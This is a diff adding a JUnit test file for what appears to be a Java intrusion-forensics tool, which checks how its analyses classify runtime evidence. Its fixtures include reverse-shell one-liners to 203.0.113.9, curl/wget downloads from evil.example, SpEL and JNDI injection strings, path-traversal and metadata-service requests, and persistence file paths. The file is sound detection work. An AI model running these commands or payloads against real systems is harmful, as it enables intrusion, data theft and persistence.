@@ -1,0 +1,612 @@
+package whorl.collector.analysis;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import whorl.collector.timeline.IndexStatus;
+import whorl.evidence.Id;
+import whorl.evidence.Json;
+import whorl.evidence.Missing;
+
+/** Each analysis, where it must speak and where it must not. */
+class AnalysesTest {
+  private static final String ADDRESS = "203.0.113.7";
+  private static final String HASH = "f4".repeat(32);
+
+  private final Rows rows = new Rows();
+
+  private Report report() throws Exception {
+    return Evidences.report(rows);
+  }
+
+  private Finding only(String analysis) throws Exception {
+    List<Finding> found = Rows.of(report(), analysis);
+    assertThat(found).as(analysis).hasSize(1);
+    return found.get(0);
+  }
+
+  /** An expression that reaches for code, and its request. */
+  private void injected(String request) {
+    rows.of(
+        request,
+        "whorl.ScriptEval",
+        "engine",
+        "spel",
+        "source",
+        "T(java.lang.Runtime).getRuntime()");
+  }
+
+  private void answered(String request) {
+    rows.request(request, "GET", "/products", "sort=x", ADDRESS, 200);
+  }
+
+  @Test
+  void wayIn_expressionThatReachesForCode_namesRequestAddressAndExpression() throws Exception {
+    rows.request("r0", "GET", "/healthz", "", ADDRESS, 200);
+    injected("r1");
+    answered("r1");
+
+    Finding found = only("way-in");
+
+    assertThat(found.severity()).isEqualTo(Severity.HIGH);
+    assertThat(found.title()).isEqualTo("Way in: expression injection through GET /products");
+    assertThat(found.text())
+        .contains("GET /products from 203.0.113.7 (curl/8.5, answered 200)")
+        .contains("T(java.lang.Runtime).getRuntime()")
+        .contains("earliest contact of 203.0.113.7 in this evidence is GET /healthz");
+    assertThat(found.techniques())
+        .contains(Technique.EXPLOIT_PUBLIC_APPLICATION, Technique.SCRIPTING);
+    assertThat(found.subjects())
+        .contains(
+            new Subject(Subject.Kind.REQUEST, "GET /products"),
+            new Subject(Subject.Kind.ADDRESS, ADDRESS));
+    assertThat(report().summary()).contains("expression injection through GET /products", ADDRESS);
+  }
+
+  @Test
+  void wayIn_ordinaryExpression_isQuiet() throws Exception {
+    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", "name");
+    rows.event("whorl.ScriptEval", "engine", "spel", "source", "T(java.lang.Math).random()");
+    answered("r1");
+
+    assertThat(report().findings()).isEmpty();
+    assertThat(report().chain()).isEmpty();
+    assertThat(report().summary()).contains("Nothing in it looks like an attack");
+  }
+
+  @Test
+  void wayIn_requestThatRanAProgram_isCritical() throws Exception {
+    injected("r1");
+    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    answered("r1");
+
+    assertThat(only("way-in").severity()).isEqualTo(Severity.CRITICAL);
+  }
+
+  @Test
+  void wayIn_pathTraversal_isTheRequestThatNamedTheFile() throws Exception {
+    rows.of("r1", "whorl.FileOpen", "path", "/etc/passwd", "access", "read", "failed", false);
+    rows.request("r1", "GET", "/view", "file=..%252F..%252Fetc%252Fpasswd", ADDRESS, 200);
+    rows.of("r2", "whorl.FileOpen", "path", "/app/application.yml", "access", "read");
+    rows.request("r2", "GET", "/reload", "", "10.0.0.1", 200);
+
+    assertThat(only("way-in").title()).isEqualTo("Way in: path traversal through GET /view");
+  }
+
+  @Test
+  void wayIn_requestWithoutAnswer_isNamedByItsFirstRow() throws Exception {
+    rows.of(
+        "r1",
+        "whorl.ProcessStart",
+        "command",
+        "/bin/bash -i",
+        "request.method",
+        "POST",
+        "request.path",
+        "/x",
+        "request.remoteAddress",
+        ADDRESS);
+
+    assertThat(only("way-in").text()).contains("POST /x from 203.0.113.7", "no answer");
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "whorl.JndiLookup,name,ldap://evil.example/a,a JNDI lookup,HIGH",
+    "whorl.JndiAnswer,codebase,http://evil.example/,a JNDI lookup,HIGH",
+    "whorl.AgentLoad,jar,/tmp/a.jar,an agent loaded into the JVM,HIGH",
+  })
+  void wayIn_outsideAnyRequest_isToldToo(
+      String action, String field, String value, String kind, Severity severity) throws Exception {
+    rows.event(action, field, value);
+
+    Finding found = only("way-in");
+    assertThat(found.title()).isEqualTo("Way in: " + kind + " outside any request");
+    assertThat(found.severity()).isEqualTo(severity);
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "whorl.JndiLookup,name,java:comp/env/jdbc/shop",
+    "whorl.Deserialization,type,java.util.ArrayList",
+    "whorl.XmlEntity,systemId,http://www.springframework.org/schema/beans.xsd",
+    "whorl.Reflection,className,com.example.Order",
+    "whorl.LoaderCreate,urls,file:/app/lib/a.jar",
+    "whorl.Tamper,what,attach-listener-started",
+    "whorl.LibraryLoad,path,/tmp/libnetty_transport.so",
+    "whorl.SocketConnect,host,db.internal",
+    "whorl.DnsLookup,host,api.partner.example",
+    "jdk.SecurityPropertyModification,key,networkaddress.cache.ttl",
+    "whorl.ProcessStart,command,uname -a",
+    "whorl.FileDelete,path,/tmp/upload.tmp",
+  })
+  void ordinaryEvents_outsideRequests_areAtMostLow(String action, String field, String value)
+      throws Exception {
+    rows.event(action, field, value);
+
+    assertThat(report().findings()).noneMatch(each -> each.severity().atLeast(Severity.MEDIUM));
+    assertThat(report().chain()).isEmpty();
+  }
+
+  @Test
+  void ordinaryRequest_thatReadsWritesAndConnects_isQuiet() throws Exception {
+    rows.of("r1", "whorl.FileOpen", "path", "/data/invoice.txt", "access", "read");
+    rows.of("r1", "whorl.FileOpen", "path", "/var/log/shop.log", "access", "append");
+    rows.of("r1", "whorl.FileOpen", "path", "/app/keys/shop.p12", "access", "read");
+    rows.of("r1", "whorl.SocketConnect", "host", "db", "address", "10.0.0.9", "port", 5432);
+    rows.of("r1", "whorl.ClassDefine", "className", "A$Proxy", "origin", "proxy");
+    rows.of("r1", "whorl.Deserialization", "type", "java.util.HashMap", "gadget", false);
+    rows.request("r1", "GET", "/invoices", "id=7", ADDRESS, 200);
+
+    assertThat(report().findings()).isEmpty();
+  }
+
+  @Test
+  void processes_tellCommandLineRequestAndExitCode() throws Exception {
+    injected("r1");
+    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 77);
+    rows.event("whorl.ProcessExit", "pid", 77, "exitCode", 3);
+    answered("r1");
+
+    Finding found = only("processes");
+
+    assertThat(found.severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(found.text())
+        .contains("the request GET /products started /bin/sh -c id (pid 77, exit code 3)");
+    assertThat(found.techniques()).contains(Technique.UNIX_SHELL);
+    assertThat(found.rows()).hasSize(2);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' | REVERSE_SHELL",
+        "nc -e /bin/sh 203.0.113.9 4444 | REVERSE_SHELL",
+        "/tmp/xmrig -o stratum+tcp://pool:3333 | MINER",
+        "/usr/bin/curl -s http://evil.example/x | DOWNLOAD",
+        "sh -c 'wget http://evil.example/x' | DOWNLOAD",
+        "/bin/sh -c id | SHELL",
+        "env X=1 /bin/bash -c id | SHELL",
+        "python3 -c print(1) | SHELL",
+        "nsenter -t 1 -m | ESCAPE",
+        "whoami | DISCOVERY",
+        "/usr/bin/ffmpeg -i a.mov b.mp4 | OTHER",
+      })
+  void command_isToldByItsLine(String line, Command kind) {
+    assertThat(Command.of(line.strip())).isEqualTo(kind);
+  }
+
+  @Test
+  void filesRead_secretOfASuspectRequest_isHighAndToBeChanged() throws Exception {
+    rows.of("r1", "whorl.FileOpen", "path", "/proc/self/environ", "access", "read");
+    rows.request("r1", "GET", "/view", "file=../../proc/self/environ", ADDRESS, 200);
+
+    Finding read = only("files-read");
+    Finding secrets = only("secrets");
+
+    assertThat(read.severity()).isEqualTo(Severity.HIGH);
+    assertThat(read.techniques()).containsExactly(Technique.PROC_FILESYSTEM);
+    assertThat(secrets.severity()).isEqualTo(Severity.HIGH);
+    assertThat(secrets.text()).contains("every secret in the environment variables");
+  }
+
+  @Test
+  void filesRead_notThere_isMediumAndNothingToChange() throws Exception {
+    rows.of(
+        "r1",
+        "whorl.FileOpen",
+        "path",
+        "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        "access",
+        "read",
+        "failed",
+        true);
+    rows.request("r1", "GET", "/view", "file=../../token", ADDRESS, 404);
+
+    assertThat(only("files-read").severity()).isEqualTo(Severity.MEDIUM);
+    assertThat(only("files-read").title()).startsWith("Tried to read");
+    assertThat(Rows.of(report(), "secrets")).isEmpty();
+  }
+
+  @Test
+  void filesWritten_droppedMadeExecutableStartedAndDeleted_isOneStory() throws Exception {
+    injected("r1");
+    rows.of("r1", "whorl.FileOpen", "path", "/dev/shm/x", "access", "write", "created", true);
+    rows.of("r1", "whorl.FileMode", "path", "/dev/shm/x", "mode", "+x");
+    rows.of("r1", "whorl.ProcessStart", "command", "/dev/shm/x --now", "pid", 9);
+    rows.of("r1", "whorl.FileDelete", "path", "/dev/shm/x");
+    answered("r1");
+    rows.event("file.modified", "path", "/dev/shm/x", "sha256", HASH);
+
+    Finding found = only("files-written");
+
+    assertThat(found.severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(found.text())
+        .contains("created at", "made executable at", "deleted at", "was started with its path")
+        .contains("SHA-256 is " + HASH);
+    assertThat(found.techniques())
+        .contains(Technique.FILE_PERMISSIONS, Technique.FILE_DELETION, Technique.TOOL_TRANSFER);
+    assertThat(found.subjects()).contains(new Subject(Subject.Kind.HASH, HASH));
+  }
+
+  @Test
+  void filesWritten_beforeTheBreakIn_areNotTheIntruders() throws Exception {
+    rows.event("whorl.FileOpen", "path", "/tmp/lib.so", "access", "write", "created", true);
+    rows.later(1000);
+    injected("r1");
+    answered("r1");
+
+    assertThat(Rows.of(report(), "files-written")).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"+x", "755", "0755", "100755", "rwxr-xr-x", "711"})
+  void mode_thatLetsSomebodyRunIt_isExecutable(String mode) {
+    assertThat(FilesWritten.isExecutable(mode)).isTrue();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {"", "644", "rw-r--r--", "999", "77777777777777777777", "-x99999999999999"})
+  void mode_thatDoesNot_isNot(String mode) {
+    assertThat(FilesWritten.isExecutable(mode)).isFalse();
+  }
+
+  @Test
+  void codeLoaded_classOfNobodyKnown_namesItsDigest() throws Exception {
+    injected("r1");
+    rows.of("r1", "whorl.ClassDefine", "className", "a.Promo", "origin", "lookup", "sha256", HASH);
+    answered("r1");
+    rows.event(
+        "class.found",
+        "className",
+        "a.Promo",
+        "findings",
+        List.of(Map.of("kind", "made-class", "severity", "medium", "reason", "it is in no jar")));
+
+    Finding found = only("code-loaded");
+
+    assertThat(found.severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(found.text()).contains("a.Promo", HASH, "it is in no jar");
+    assertThat(found.subjects())
+        .contains(new Subject(Subject.Kind.CLASS, "a.Promo"), new Subject(Subject.Kind.HASH, HASH));
+  }
+
+  @Test
+  void codeLoaded_classOfAKnownGenerator_isQuiet() throws Exception {
+    injected("r1");
+    rows.of(
+        "r1",
+        "whorl.ClassDefine",
+        "className",
+        "a.B$$Fast",
+        "origin",
+        "loader",
+        "generator",
+        "spring-cglib");
+    answered("r1");
+
+    assertThat(Rows.of(report(), "code-loaded")).isEmpty();
+  }
+
+  @Test
+  void codeLoaded_whatTheCaptureSaysOfAClass_isTakenOver() throws Exception {
+    rows.event(
+        "class.found",
+        "className",
+        "org.apache.catalina.core.StandardWrapperValve",
+        "findings",
+        List.of(
+            Map.of("kind", "changed-class", "severity", "critical", "reason", "it was changed")));
+
+    assertThat(only("code-loaded").severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(only("code-loaded").techniques()).containsExactly(Technique.PROCESS_INJECTION);
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "169.254.169.254,169.254.169.254,80,METADATA",
+    "metadata.google.internal.,,80,METADATA",
+    "pool.supportxmr.com,203.0.113.1,3333,MINING_POOL",
+    "x.oast.fun,203.0.113.1,443,OUT_OF_BAND",
+    "transfer.sh,203.0.113.1,443,DROP_SITE",
+    "abc.onion,,80,ANONYMITY",
+    "evil.example,203.0.113.1,1389,NAMING_SERVICE",
+    "kubernetes.default.svc,10.0.0.1,443,CLUSTER",
+    "evil.example,203.0.113.1,443,PUBLIC_ADDRESS",
+    "db,10.0.0.1,5432,PRIVATE_ADDRESS",
+    "localhost,127.0.0.1,9,SELF",
+    "evil.example,,0,NAME",
+    "1.2.3.999,,0,NAME",
+  })
+  void destination_isToldByNameAddressAndPort(
+      String host, String address, long port, Destination kind) {
+    assertThat(Destination.of(host, address == null ? "" : address, port)).isEqualTo(kind);
+  }
+
+  @Test
+  void contacts_shellAndConnectionOfOneRequest_lookLikeAReverseShell() throws Exception {
+    injected("r1");
+    rows.of("r1", "whorl.SocketConnect", "host", "", "address", "198.51.100.9", "port", 4444);
+    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh", "pid", 8);
+    answered("r1");
+
+    Finding found = only("contacts");
+
+    assertThat(found.severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(found.text()).contains("198.51.100.9", "4444", "reverse shell");
+    assertThat(found.techniques())
+        .contains(Technique.NON_STANDARD_PORT, Technique.NON_APPLICATION_PROTOCOL);
+  }
+
+  @Test
+  void contacts_newAfterTheBreakIn_areLow_knownOnesAreNot() throws Exception {
+    rows.event("whorl.DnsLookup", "host", "known.example");
+    rows.later(100);
+    injected("r1");
+    answered("r1");
+    rows.event("whorl.DnsLookup", "host", "known.example");
+    rows.event("whorl.DnsLookup", "host", "fresh.example");
+
+    Finding found = only("contacts");
+
+    assertThat(found.severity()).isEqualTo(Severity.LOW);
+    assertThat(found.text()).contains("fresh.example").doesNotContain("known.example");
+  }
+
+  @Test
+  void contacts_metadataServiceForARequest_isCriticalAndTheWayIn() throws Exception {
+    rows.of(
+        "r1",
+        "whorl.SocketConnect",
+        "host",
+        "169.254.169.254",
+        "address",
+        "169.254.169.254",
+        "port",
+        80);
+    rows.request("r1", "GET", "/fetch", "url=http://169.254.169.254/", ADDRESS, 200);
+
+    assertThat(only("contacts").severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(only("contacts").techniques()).contains(Technique.CLOUD_METADATA);
+    assertThat(only("way-in").title()).contains("a request made on the intruder's behalf");
+  }
+
+  @Test
+  void persistence_filterRegisteredForARequest_isCritical() throws Exception {
+    rows.of("r1", "whorl.Registration", "kind", "filter", "className", "x.Shell", "target", "/*");
+    rows.request("r1", "POST", "/import", "", ADDRESS, 200);
+
+    Finding found = only("persistence");
+
+    assertThat(found.severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(found.techniques()).containsExactly(Technique.WEB_SHELL);
+    assertThat(found.text()).contains("registered the filter x.Shell for /*");
+    assertThat(report().summary()).contains("What stays: registered the filter x.Shell");
+  }
+
+  @Test
+  void persistence_filterThatTheCaptureFoundAtWork_isTakenOver_andIsNoClassFindingToo()
+      throws Exception {
+    rows.event(
+        "class.found",
+        "className",
+        "x.Shell",
+        "sha256",
+        HASH,
+        "findings",
+        List.of(
+            Map.of(
+                "kind",
+                "filter",
+                "severity",
+                "critical",
+                "reason",
+                "it is in no jar",
+                "target",
+                "/*")));
+
+    Finding found = only("persistence");
+
+    assertThat(found.severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(found.text()).contains("the filter x.Shell was at work for /*: it is in no jar");
+    assertThat(Rows.of(report(), "code-loaded")).isEmpty();
+  }
+
+  @Test
+  void wayIn_requestKnownByARegistrationAlone_isNotCalledByItsPattern() throws Exception {
+    rows.of(
+        "r1",
+        "whorl.Registration",
+        "kind",
+        "filter",
+        "className",
+        "x.Shell",
+        "target",
+        "/shell/*",
+        "request.method",
+        "POST",
+        "request.path",
+        "/import");
+
+    assertThat(only("way-in").title()).endsWith("POST /import");
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "/etc/cron.d/x,CRON",
+    "/etc/systemd/system/x.service,SYSTEMD_SERVICE",
+    "/root/.ssh/authorized_keys,SSH_AUTHORIZED_KEYS",
+    "/etc/ld.so.preload,DYNAMIC_LINKER",
+    "/home/a/.bashrc,SHELL_CONFIGURATION",
+    "/app/webapps/ROOT/x.jsp,WEB_SHELL",
+  })
+  void persistence_fileFromWhichThingsStart_isCriticalForARequest(String path, Technique technique)
+      throws Exception {
+    injected("r1");
+    rows.of("r1", "whorl.FileOpen", "path", path, "access", "write", "created", true);
+    answered("r1");
+
+    assertThat(only("persistence").severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(only("persistence").techniques()).containsExactly(technique);
+  }
+
+  @Test
+  void secrets_printedToTheConsole_areLow() throws Exception {
+    rows.event("whorl.Console", "stream", "out", "line", "using password=hunter22 for db");
+    rows.event("whorl.Console", "stream", "out", "line", "password=*** for db");
+
+    Finding found = only("secrets");
+    assertThat(found.severity()).isEqualTo(Severity.LOW);
+    assertThat(found.rows()).hasSize(1);
+    assertThat(found.text()).doesNotContain("hunter22");
+  }
+
+  @Test
+  void tampering_withTheRecording_isHigh_forARequestCritical() throws Exception {
+    rows.event("whorl.Tamper", "what", "recording-stopped", "target", "1");
+
+    assertThat(only("tampering").severity()).isEqualTo(Severity.HIGH);
+
+    injected("r1");
+    rows.of("r1", "whorl.Tamper", "what", "recording-stopped", "target", "1");
+    answered("r1");
+
+    assertThat(only("tampering").severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(report().summary()).contains("tampered with: the flight recording was stopped");
+  }
+
+  @Test
+  void alert_ofNoRequest_isAFindingOfItsLevel_lowOnesAreNot() throws Exception {
+    rows.event("whorl.Alert", "id", "1", "title", "Price List Read", "level", "high");
+    rows.event("alert.raised", "id", "1", "title", "Price List Read", "level", "high");
+    rows.event("whorl.Alert", "id", "2", "title", "Log Removed", "level", "low");
+
+    Finding found = only("alert");
+    assertThat(found.severity()).isEqualTo(Severity.HIGH);
+    assertThat(found.title()).isEqualTo("Alert: Price List Read");
+    assertThat(found.rows()).hasSize(1);
+  }
+
+  @Test
+  void alert_ofARequestThatNothingExplains_makesItSuspect() throws Exception {
+    rows.alert("r1", "Price List Read", "high");
+    rows.of("r1", "whorl.FileOpen", "path", "/data/prices", "access", "read");
+    rows.request("r1", "GET", "/prices", "", ADDRESS, 200);
+
+    assertThat(only("way-in").title()).isEqualTo("A request set off an alert: GET /prices");
+    assertThat(only("way-in").severity()).isEqualTo(Severity.HIGH);
+    assertThat(only("files-read").text()).contains("/data/prices");
+  }
+
+  @Test
+  void notSeen_encryptedMissingAndDamaged_areNamed() throws Exception {
+    rows.event("whorl.Console", "line", "hello");
+    IndexStatus index =
+        new IndexStatus(
+            1,
+            IndexStatus.State.READY,
+            1,
+            1,
+            null,
+            null,
+            List.of(new IndexStatus.Source("recording.jfr", 0, "chunk 2 is cut off")));
+
+    Report report =
+        Evidences.report(
+            rows,
+            Evidences.of(
+                Rows.EVIDENCE,
+                new Id("agent-00000001"),
+                "age1xyz",
+                List.of(new Missing("heap", "it would take too long"))),
+            index);
+
+    assertThat(Rows.of(report, "not-seen").get(0).text())
+        .contains("encrypted to age1xyz", "heap: it would take too long", "recording.jfr: chunk 2");
+    assertThat(report.summary()).contains("Not looked at:");
+  }
+
+  @Test
+  void chain_isInTheOrderOfTime_andNamesEachRowOnce() throws Exception {
+    injected("r1");
+    rows.of("r1", "whorl.ClassDefine", "className", "a.P", "origin", "lookup", "sha256", HASH);
+    rows.of("r1", "whorl.FileOpen", "path", "/etc/cron.d/x", "access", "write", "created", true);
+    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    answered("r1");
+
+    List<Step> chain = report().chain();
+
+    assertThat(chain)
+        .extracting(Step::tactic)
+        .containsExactly(
+            Tactic.INITIAL_ACCESS,
+            Tactic.EXECUTION,
+            Tactic.DEFENSE_EVASION,
+            Tactic.COMMAND_AND_CONTROL,
+            Tactic.EXECUTION);
+    assertThat(chain).isSortedAccordingTo(java.util.Comparator.comparing(Step::time));
+    assertThat(chain).extracting(Step::row).doesNotHaveDuplicates();
+  }
+
+  @Test
+  void json_isWhatTheApiPromises_andComesBack() throws Exception {
+    injected("r1");
+    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    answered("r1");
+    Report report = report();
+
+    var json = Json.LENIENT.readTree(Json.bytes(report));
+
+    assertThat(json.fieldNames())
+        .toIterable()
+        .containsExactly("evidence", "summary", "findings", "chain", "scope");
+    var finding = json.path("findings").path(0);
+    assertThat(finding.fieldNames())
+        .toIterable()
+        .containsExactly(
+            "id",
+            "analysis",
+            "severity",
+            "title",
+            "text",
+            "techniques",
+            "tactics",
+            "from",
+            "to",
+            "rows",
+            "subjects");
+    assertThat(finding.path("severity").asText()).isEqualTo("critical");
+    assertThat(finding.path("techniques").path(0).path("id").asText()).startsWith("T1");
+    assertThat(json.path("chain").path(0).fieldNames())
+        .toIterable()
+        .containsExactly("time", "what", "row", "tactic");
+    assertThat(Json.MAPPER.readValue(Json.bytes(report), Report.class)).isEqualTo(report);
+  }
+}
